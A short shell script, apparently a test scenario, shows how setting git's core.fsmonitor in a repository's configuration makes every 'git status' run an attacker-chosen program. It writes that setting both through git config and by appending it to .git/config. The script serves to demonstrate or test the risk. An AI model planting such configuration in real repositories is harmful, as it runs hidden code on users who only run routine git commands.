# The repository's configuration names a program that every `git status` runs.
attack() {
    evil
    git config core.fsmonitor "$EVIL"
    printf "[core]\n\tfsmonitor = %s\n" "$EVIL" >>.git/config
}
human() {
    git status
}
harmed() {
    executed
}
